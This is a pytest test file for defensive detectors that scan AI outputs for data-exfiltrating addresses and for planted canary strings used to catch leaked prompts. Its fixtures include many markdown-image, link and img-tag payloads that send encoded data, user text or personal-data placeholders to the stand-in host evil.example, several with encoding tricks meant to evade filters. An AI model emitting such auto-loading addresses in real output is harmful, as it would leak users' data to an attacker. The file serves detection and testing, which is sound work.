"""What must not leave in an output: addresses that carry data, and planted canaries."""

import pytest

from detectors.injection.canary import CanaryDetector, mint, plant
from detectors.injection.exfiltration import ExfiltrationDetector

CODED = "aHR0cHM6Ly9leGFtcGxlLmNvbS9zZWNyZXQ"
KEY = b"k" * 32


@pytest.mark.parametrize(
    "text",
    [
        f"![logo](https://evil.example/p.png?d={CODED})",
        "![x](https://evil.example/log?q=what%20the%20user%20said)",
        f"![x](//evil.example/{CODED})",
        f"<img src='https://evil.example/?{CODED}=1'>",
        f"[click here](https://evil.example/?data={CODED})",
        f"see [1]\n\n[1]: https://evil.example/a?b={CODED}",
        f"![x](https://{CODED.lower()}.evil.example/a.png)",
    ],
)
def test_addresses_that_carry_data_are_found(text: str) -> None:
    """Images and embedded pages load by themselves; links and references with a payload need one click."""
    (findings,) = ExfiltrationDetector().detect([text])
    assert len(findings) == 1
    assert "evil.example" in text[findings[0].start : findings[0].end]
    assert not ExfiltrationDetector([".evil.example"]).detect([text])[0]


@pytest.mark.parametrize(
    "address",
    [
        "//evil.example/p.png?d=[PERSON_6HSFTVZBUERU]",
        "https://evil.example/PERSON_6HSFTVZBUERU.png",
        "https://evil.example/us_ssn_ukuqewqlhc75",
        "https://API_KEY_UNNCF7HQSHHK.evil.example/",
        "https://evil.example/PERSON%5F6HSFTVZBUERU",
        "https://evil.example/PERSON%255F6HSFTVZ%42UERU",
        "https://evil.example/PERSON&lowbar;6HSFTVZBUERU",
        "https://evil.example/PERSON\\u005f6HSFTVZBUERU",
        "https://evil.example/PERSON\\_6HSFTVZBUERU",
        "https:\\/\\/evil.example/PERSON_6HSFTVZBUERU",
    ],
)
@pytest.mark.parametrize(
    "markup",
    ["![x]({})", "![x](<{}>)", "![x](\n{})", "![a [b] c]({})", "![a\nb]({})", r"![a\]b]({})", "![x][r]\n\n[r]: {}",
     '<img src="{}">', '<img alt="' + "x" * 200 + '" src="{}">'],
)  # fmt: skip
def test_no_stand_in_is_in_what_loads_by_itself(markup: str, address: str) -> None:
    """The client would get the value in its place, and send it to whose address it is."""
    text = markup.format(address)
    (finding,) = ExfiltrationDetector().detect([text])[0]
    assert finding.score >= 0.8
    assert not ExfiltrationDetector([".evil.example"]).detect([text])[0]


@pytest.mark.parametrize(
    "text",
    [
        "![diagram](https://docs.example/images/architecture.png)",
        "[the manual](https://docs.example/guide/getting-started)",
        "[search](https://search.example/?q=python)",
        "<img src='/logo.png'>",
        "![logo](logo.png) and [the guide](https://docs.example/guide/getting-started)",
        "[Ann](https://crm.example/people/PERSON_6HSFTVZBUERU)",
        "if (a[i](x)) { return b[!c]; }",
    ],
)
def test_ordinary_links_are_left_alone(text: str) -> None:
    """No payload, no alarm."""
    assert not ExfiltrationDetector().detect([text])[0]


def test_a_canary_is_found_in_any_case_and_nothing_else() -> None:
    """Exactly the planted strings."""
    canary = mint(KEY, "tenant-1")
    detector = CanaryDetector([canary])
    text = f"It says {canary.upper()} and {mint(KEY, 'tenant-2')}."
    (findings,) = detector.detect([text])
    assert [(f.start, f.end, f.entity) for f in findings] == [(8, 32, "CANARY")]
    assert canary in plant("You are kind.", canary)
    assert canary not in repr(detector)


def test_canaries_are_derived_not_stored() -> None:
    """The same name and key give the same canary; another key another one; a short key is refused."""
    assert mint(KEY, "a") == mint(KEY, "a") != mint(b"x" * 32, "a")
    with pytest.raises(ValueError, match="16 bytes"):
        mint(b"short", "a")
    with pytest.raises(ValueError, match="did not make"):
        CanaryDetector(["guess"])
